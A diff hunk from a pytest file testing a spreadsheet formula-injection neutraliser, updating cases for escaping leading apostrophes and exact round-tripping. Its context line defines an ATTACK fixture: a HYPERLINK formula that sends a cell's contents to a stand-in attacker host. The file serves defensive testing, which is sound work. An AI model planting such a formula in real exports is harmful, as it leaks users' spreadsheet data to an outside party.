@@ -31,11 +31,11 @@ ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'
 @pytest.mark.parametrize(("text", "written"), [
     ("=1+2", "'=1+2"), ("+82-2-123-4567", "'+82-2-123-4567"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("-1,000", "-1,000"), ("-5.25", "-5.25"), ("-", "-"),
-    ("성북구", "성북구"), ("", ""), ("1=1", "1=1"), ("'=already", "'=already"),
+    ("성북구", "성북구"), ("", ""), ("1=1", "1=1"), ("'=quoted", "''=quoted"), ("'", "''"), ("a'b", "a'b"),
 ])
 def test_neutralise_formula(text, written):
     assert tabular.neutralise_formula(text) == written
-    assert tabular.restore_formula_text(written) == (text if text != "'=already" else "=already")
+    assert tabular.restore_formula_text(written) == text
 
 
 def _cells(data: bytes) -> list[list[str]]:
